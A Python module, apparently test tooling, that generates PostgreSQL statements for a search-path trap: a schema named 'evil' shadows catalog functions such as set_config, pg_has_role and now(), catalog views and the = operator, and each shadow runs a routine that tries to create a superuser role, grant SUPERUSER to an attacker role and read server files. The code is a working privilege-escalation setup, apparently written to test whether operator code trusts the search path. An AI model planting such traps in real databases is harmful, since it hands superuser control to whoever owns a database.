"""What the owner of a database lays in it for whoever comes with more rights: namesakes of what an operator calls."""

BAIT = """
CREATE FUNCTION evil.spring(trap text) RETURNS text LANGUAGE plpgsql AS $body$
DECLARE attempt text;
BEGIN
  BEGIN PERFORM pg_catalog.set_config('role', 'none', false); EXCEPTION WHEN OTHERS THEN NULL; END;
  FOREACH attempt IN ARRAY ARRAY[
    'CREATE ROLE "PREFIX_super" SUPERUSER',
    'CREATE TABLE IF NOT EXISTS evil.as_administrator AS SELECT pg_catalog.pg_read_file(''PG_VERSION'')',
    'ALTER ROLE "PREFIX_attacker" SUPERUSER']
  LOOP
    BEGIN EXECUTE attempt; EXCEPTION WHEN OTHERS THEN NULL; END;
  END LOOP;
  INSERT INTO evil.sprung VALUES (trap, session_user, current_user);
  RETURN trap;
EXCEPTION WHEN OTHERS THEN RETURN trap;
END $body$;
"""

_SHADOWED = (
    ("set_config(text, text, boolean)", "text"),
    ("pg_advisory_lock(bigint)", "void"),
    ("pg_advisory_unlock_all()", "void"),
    ("hashtextextended(text, bigint)", "bigint"),
    ("pg_has_role(name, text)", "boolean"),
    ("pg_has_role(oid, text)", "boolean"),
    ("pg_get_userbyid(oid)", "text"),
    ("pg_terminate_backend(integer, bigint)", "boolean"),
    ("shobj_description(oid, name)", "text"),
    ("now()", "timestamptz"),
    ('"left"(text, integer)', "text"),
    ("starts_with(text, text)", "boolean"),
)
"""What an operator may be expected to call: each has a namesake that springs the trap."""

_VALUES = {"text": "''", "void": "NULL", "bigint": "0", "boolean": "true", "timestamptz": "pg_catalog.now()"}


def traps(prefix: str) -> list[str]:
    """Statements of a database's owner, after which whoever trusts its search path runs the owner's code."""
    lay = [
        "CREATE SCHEMA evil",
        "GRANT USAGE, CREATE ON SCHEMA evil TO PUBLIC",
        "CREATE TABLE evil.sprung (trap text, session text, role text)",
        "GRANT INSERT, SELECT ON evil.sprung TO PUBLIC",
        BAIT.replace("PREFIX", prefix),
    ]
    for signature, type_ in _SHADOWED:
        name = signature.partition("(")[0]
        lay.append(
            f"CREATE FUNCTION evil.{signature} RETURNS {type_} LANGUAGE plpgsql AS $body$ BEGIN"
            f" PERFORM evil.spring('{name}'); "
            + ("RETURN; " if type_ == "void" else f"RETURN {_VALUES[type_]}; ")
            + "END $body$"
        )
    for relation in ("pg_database", "pg_roles", "pg_namespace", "pg_authid", "schema_migrations"):
        lay.append(f"CREATE VIEW evil.{relation} AS SELECT evil.spring('{relation}') AS oid")
    for type_ in ("name", "text"):
        lay.append(
            f"CREATE FUNCTION evil.equals(a {type_}, b {type_}) RETURNS boolean LANGUAGE plpgsql AS"
            " $body$ BEGIN PERFORM evil.spring('='); RETURN a OPERATOR(pg_catalog.=) b; END $body$"
        )
        lay.append(f"CREATE OPERATOR evil.= (LEFTARG = {type_}, RIGHTARG = {type_}, FUNCTION = evil.equals)")
    return [
        *lay,
        "ALTER DATABASE OWN_DATABASE SET search_path = evil, pg_catalog",
        "ALTER ROLE CURRENT_USER SET search_path = evil, pg_catalog",
    ]
